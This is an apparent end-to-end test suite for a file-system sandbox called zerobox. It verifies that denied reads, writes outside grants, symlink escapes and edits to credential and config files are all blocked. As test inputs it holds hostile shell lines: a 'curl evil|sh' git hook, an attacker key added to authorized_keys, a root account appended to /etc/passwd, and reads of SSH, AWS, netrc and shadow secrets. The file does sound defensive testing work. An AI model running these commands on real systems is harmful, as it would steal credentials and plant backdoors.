using Zerobox.Tests.Support;

namespace Zerobox.Tests.EndToEnd;

/// <summary>The file system wall: every test asserts the denial and that nothing leaked or was left behind.</summary>
public class FileSystemTests
{
    public static TheoryData<string> Users => TestUser.All();

    [Theory, MemberData(nameof(Users))]
    public void Granted_file_is_readable_and_a_hidden_one_is_not(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        ws.Write("proj/open.txt", "OPEN_CONTENT_1");
        ws.Write("proj/secret.txt", "SECRET_CONTENT_2");

        var ok = Sandbox.Run(ws, ["--allow-read=.", "--deny-read=secret.txt", "--", "cat", "open.txt"]);
        Assert.Equal(0, ok.ExitCode);
        Assert.Contains("OPEN_CONTENT_1", ok.Stdout);

        var denied = Sandbox.Run(ws, ["--allow-read=.", "--deny-read=secret.txt", "--", "sh", "-c", "cat secret.txt; ls -la; grep -r SECRET . /proc/self/cwd"]);
        Assert.NotEqual(0, denied.ExitCode);
        Assert.DoesNotContain("SECRET_CONTENT_2", denied.All);
    }

    [Theory, MemberData(nameof(Users))]
    public void Without_a_grant_the_working_directory_is_an_empty_stand_in(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        ws.Write("proj/data.txt", "PROJECT_DATA_3");
        var r = Sandbox.Run(ws, ["--", "sh", "-c", "pwd; ls -A; cat data.txt; echo x > new.txt"]);
        Assert.NotEqual(0, r.ExitCode);
        Assert.Contains(ws.Proj, r.Stdout);          // same path as the caller's
        Assert.DoesNotContain("data.txt", r.Stdout);  // but nothing in it
        Assert.DoesNotContain("PROJECT_DATA_3", r.All);
        Assert.False(File.Exists(Path.Combine(ws.Proj, "new.txt")));
    }

    [Theory, MemberData(nameof(Users))]
    public void Writes_outside_grants_fail_and_leave_no_file(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        Directory.CreateDirectory(Path.Combine(ws.Proj, "out"));
        var r = Sandbox.Run(ws, ["--allow-read=.", "--allow-write=./out", "--", "sh", "-c",
            "echo a > out/ok.txt; echo b > not-granted.txt; echo c > " + ws.Home + "/x; mkdir " + ws.Root + "/newdir; echo done"]);
        Assert.Contains("done", r.Stdout);
        Assert.Equal("a\n", File.ReadAllText(Path.Combine(ws.Proj, "out/ok.txt")));
        Assert.False(File.Exists(Path.Combine(ws.Proj, "not-granted.txt")));
        Assert.False(File.Exists(Path.Combine(ws.Home, "x")));
        Assert.False(Directory.Exists(Path.Combine(ws.Root, "newdir")));
        Assert.Contains("not-granted.txt", r.Stderr); // the shell reports the denial
    }

    [Theory, MemberData(nameof(Users))]
    public void Deny_write_inside_allow_write_keeps_that_path_read_only(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        ws.Write("proj/keep/orig.txt", "ORIGINAL");
        var r = Sandbox.Run(ws, ["--allow-write=.", "--deny-write=./keep,./future.txt", "--", "sh", "-c",
            "cat keep/orig.txt; echo EVIL > keep/orig.txt; echo n > keep/new.txt; echo f > future.txt; echo free > free.txt"]);
        Assert.Contains("ORIGINAL", r.Stdout);                                  // still readable
        Assert.Equal("ORIGINAL", File.ReadAllText(Path.Combine(ws.Proj, "keep/orig.txt")));
        Assert.False(File.Exists(Path.Combine(ws.Proj, "keep/new.txt")));
        Assert.False(File.Exists(Path.Combine(ws.Proj, "future.txt")));        // did not exist: cannot be created
        Assert.Equal("free\n", File.ReadAllText(Path.Combine(ws.Proj, "free.txt"))); // the rest stays writable
    }

    [Theory, MemberData(nameof(Users))]
    public void Private_tmp_and_home_are_writable_and_leave_no_trace(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        var marker = "zbmark-" + Guid.NewGuid().ToString("n");
        ws.Write("home/existing.txt", "HOME_FILE_4");
        var r = Sandbox.Run(ws, ["--", "sh", "-c",
            $"echo t > /tmp/{marker} && echo h > $HOME/{marker} && ls -A $HOME; cat $HOME/existing.txt; ls -A /tmp; echo ok"]);
        Assert.Contains("ok", r.Stdout);
        Assert.Contains(marker, r.Stdout);                      // writable inside
        Assert.DoesNotContain("HOME_FILE_4", r.All);            // the real HOME is not visible
        Assert.DoesNotContain("existing.txt", r.Stdout);
        Assert.False(File.Exists("/tmp/" + marker));            // and nothing reached the host
        Assert.False(File.Exists(Path.Combine(ws.Home, marker)));
    }

    [Theory, MemberData(nameof(Users))]
    public void Credential_stores_stay_hidden_under_a_broad_read_grant(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        ws.Write("home/.ssh/id_ed25519", "SSH_PRIVATE_KEY_5");
        ws.Write("home/.aws/credentials", "AWS_SECRET_6");
        ws.Write("home/.netrc", "NETRC_PASSWORD_7");
        ws.Write("home/notes.txt", "NOTES_8");
        var r = Sandbox.Run(ws, ["--allow-read=~", "--", "sh", "-c",
            "cat ~/notes.txt; cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.netrc; ls -la ~/.ssh; grep -r . ~ 2>/dev/null"]);
        Assert.Contains("NOTES_8", r.Stdout);
        Assert.DoesNotContain("SSH_PRIVATE_KEY_5", r.All);
        Assert.DoesNotContain("AWS_SECRET_6", r.All);
        Assert.DoesNotContain("NETRC_PASSWORD_7", r.All);

        // Named exactly, a store becomes readable (and only readable).
        var named = Sandbox.Run(ws, ["--allow-read=~,~/.ssh", "--allow-write=~", "--", "sh", "-c",
            "cat ~/.ssh/id_ed25519; echo EVIL > ~/.ssh/id_ed25519; echo k > ~/.ssh/authorized_keys"]);
        Assert.Contains("SSH_PRIVATE_KEY_5", named.Stdout);
        Assert.Equal("SSH_PRIVATE_KEY_5", File.ReadAllText(Path.Combine(ws.Home, ".ssh/id_ed25519")));
        Assert.False(File.Exists(Path.Combine(ws.Home, ".ssh/authorized_keys")));
    }

    [Theory, MemberData(nameof(Users))]
    public void Missing_credential_store_cannot_be_created_under_a_broad_write_grant(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        var r = Sandbox.Run(ws, ["--allow-write=~", "--", "sh", "-c",
            "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys; echo x > ~/.bashrc; echo ok"]);
        Assert.Contains("ok", r.Stdout);
        Assert.False(File.Exists(Path.Combine(ws.Home, ".ssh/authorized_keys")));
        Assert.False(File.Exists(Path.Combine(ws.Home, ".bashrc")));
        // The placeholders used to block creation are gone after the run.
        Assert.False(Directory.Exists(Path.Combine(ws.Home, ".ssh")));
        // Only zerobox's own state directory (made before the run so that the sandbox cannot plant it).
        Assert.Equal([".local"], Directory.GetFileSystemEntries(ws.Home).Select(Path.GetFileName));
        Assert.Equal(["zerobox"], Directory.GetFileSystemEntries(Path.Combine(ws.Home, ".local/state")).Select(Path.GetFileName));
        Assert.Empty(Directory.GetFiles(Path.Combine(ws.Home, ".local/state/zerobox"), "*.list", SearchOption.AllDirectories)); // journal removed
    }

    [Theory, MemberData(nameof(Users))]
    public void Git_hooks_and_agent_config_stay_read_only_under_allow_write_dot(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        ws.Write("proj/.git/hooks/pre-commit", "#!/bin/sh\necho original\n");
        ws.Write("proj/.git/config", "[core]\n");
        ws.Write("proj/src.txt", "code");
        var r = Sandbox.Run(ws, ["--allow-write=.", "--", "sh", "-c",
            "echo 'curl evil|sh' > .git/hooks/pre-commit; echo x > .git/hooks/post-checkout; " +
            "echo '[core] fsmonitor=evil' >> .git/config; echo 'export X=1' > .envrc; echo '{}' > .mcp.json; " +
            "mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo edited > src.txt; echo ok"]);
        Assert.Contains("ok", r.Stdout);
        Assert.Equal("edited\n", File.ReadAllText(Path.Combine(ws.Proj, "src.txt")));  // the grant works
        Assert.Equal("#!/bin/sh\necho original\n", File.ReadAllText(Path.Combine(ws.Proj, ".git/hooks/pre-commit")));
        Assert.False(File.Exists(Path.Combine(ws.Proj, ".git/hooks/post-checkout")));
        Assert.Equal("[core]\n", File.ReadAllText(Path.Combine(ws.Proj, ".git/config")));
        foreach (var name in new[] { ".envrc", ".mcp.json", ".vscode", ".gitmodules", ".idea" })
            Assert.False(Path.Exists(Path.Combine(ws.Proj, name)), $"{name} was created or left behind");

        // Named exactly, the hooks directory becomes writable.
        var named = Sandbox.Run(ws, ["--allow-write=.,./.git/hooks", "--", "sh", "-c", "echo new > .git/hooks/pre-commit"]);
        Assert.Equal(0, named.ExitCode);
        Assert.Equal("new\n", File.ReadAllText(Path.Combine(ws.Proj, ".git/hooks/pre-commit")));
    }

    [Theory, MemberData(nameof(Users))]
    public void A_planted_symlink_to_etc_passwd_does_not_lead_a_write_outside(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        var before = File.ReadAllText("/etc/passwd");
        File.CreateSymbolicLink(Path.Combine(ws.Proj, "passwd-link"), "/etc/passwd");
        var r = Sandbox.Run(ws, ["--allow-write=.", "--", "sh", "-c",
            "echo 'evil::0:0::/:/bin/sh' >> passwd-link; ln -sf /etc/shadow shadow-link; cat shadow-link; " +
            "ln -s /etc newlink && echo x > newlink/zb-planted; echo ok"]);
        Assert.Contains("ok", r.Stdout);
        Assert.Equal(before, File.ReadAllText("/etc/passwd"));
        Assert.False(File.Exists("/etc/zb-planted"));
        Assert.DoesNotContain("root:", r.Stdout); // /etc/shadow's content never printed
    }

    [Theory, MemberData(nameof(Users))]
    public void A_grant_that_enters_a_protected_path_through_a_symlink_is_refused(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        ws.Write("home/.ssh/id_rsa", "KEY_9");
        File.CreateSymbolicLink(Path.Combine(ws.Proj, "notes"), Path.Combine(ws.Home, ".ssh/id_rsa"));
        var r = Sandbox.Run(ws, ["--allow-read=./notes", "--", "cat", "notes"]);
        Assert.Equal(125, r.ExitCode);
        Assert.StartsWith("zerobox: ", r.Stderr);
        Assert.Contains("symlink", r.Stderr);
        Assert.DoesNotContain("KEY_9", r.All);
    }

    [Theory, MemberData(nameof(Users))]
    public void System_secrets_are_hidden_even_from_root(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        var r = Sandbox.Run(ws, ["--allow-read", "--", "sh", "-c", "cat /etc/shadow; cat /etc/gshadow; head -1 /etc/passwd"]);
        Assert.Contains("root:x:0:0", r.Stdout);  // ordinary /etc stays readable
        Assert.Contains("/etc/shadow", r.Stderr); // the denial is reported
        if (TestUser.Current.Uid == 0 && File.Exists("/etc/shadow"))
            foreach (var line in File.ReadLines("/etc/shadow").Take(3))
                Assert.DoesNotContain(line, r.Stdout);
    }

    [Theory, MemberData(nameof(Users))]
    public void Most_specific_path_wins(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        var r = Sandbox.Run(ws, ["--allow-read=/", "--deny-read=/etc", "--allow-read=/etc/hosts", "--", "sh", "-c",
            "cat /etc/hosts >/dev/null && echo HOSTS_OK; cat /etc/passwd && echo PASSWD_READ; ls /etc"]);
        Assert.Contains("HOSTS_OK", r.Stdout);
        Assert.DoesNotContain("PASSWD_READ", r.Stdout);
        Assert.DoesNotContain("root:x:0:0", r.Stdout);
    }

    [Theory, MemberData(nameof(Users))]
    public void A_missing_path_in_an_allow_rule_is_an_error_and_nothing_is_created(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        var r = Sandbox.Run(ws, ["--allow-write=./missing/dir", "--", "true"]);
        Assert.Equal(125, r.ExitCode);
        var line = Assert.Single(r.Stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.StartsWith("zerobox: --allow-write=./missing/dir", line);
        Assert.Contains("does not exist", line);
        Assert.False(Path.Exists(Path.Combine(ws.Proj, "missing")));
        Assert.Empty(Directory.GetFileSystemEntries(ws.Proj));
    }

    [Theory, MemberData(nameof(Users))]
    public void Sandbox_sees_the_callers_uid_and_gid(string user)
    {
        var u = TestUser.ByName(user);
        using var ws = new Workspace(u);
        var r = Sandbox.Run(ws, ["--", "sh", "-c", "id -u; id -g"]);
        Assert.Equal($"{u.Uid}\n{u.Gid}\n", r.Stdout);
    }

    [Theory, MemberData(nameof(Users))]
    public void Placeholders_left_by_a_killed_zerobox_are_removed_by_the_next_run(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        using (var p = Sandbox.Start(ws, ["--allow-write=.", "--", "sh", "-c", "echo ready; sleep 30"]))
        {
            Assert.Equal("ready", p.StandardOutput.ReadLine());
            Assert.True(File.Exists(Path.Combine(ws.Proj, ".envrc")), "expected the .envrc placeholder during the run");
            ProcessTests.Signal(p.Id, 9);
            p.WaitForExit();
        }
        Assert.True(File.Exists(Path.Combine(ws.Proj, ".envrc"))); // SIGKILL left it behind...

        var next = Sandbox.Run(ws, ["--", "true"]);                  // ...and any later run removes it.
        Assert.Equal(0, next.ExitCode);
        foreach (var name in new[] { ".envrc", ".mcp.json", ".gitmodules", ".vscode", ".idea", ".git" })
            Assert.False(Path.Exists(Path.Combine(ws.Proj, name)), $"{name} left behind");
        Assert.Empty(Directory.GetFileSystemEntries(ws.Proj));
    }

    [Theory, MemberData(nameof(Users))]
    public void Names_of_hidden_paths_do_not_leak_through_proc(string user)
    {
        using var ws = new Workspace(TestUser.ByName(user));
        Directory.CreateDirectory(Path.Combine(ws.Proj, "acquisition-target-zq7"));
        var r = Sandbox.Run(ws, ["--allow-read=.", "--deny-read=./acquisition-target-zq7", "--", "sh", "-c",
            "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' ' '; echo; ls"]);
        Assert.Equal(0, r.ExitCode);
        Assert.Contains("acquisition-target-zq7", r.Stdout.Split('\n').Last(l => l.Length > 0)); // ls shows the (empty) stand-in
        Assert.DoesNotContain("--deny-read", r.Stdout);
        Assert.DoesNotContain("--tmpfs", r.Stdout); // the mount plan is not on any command line
    }
}
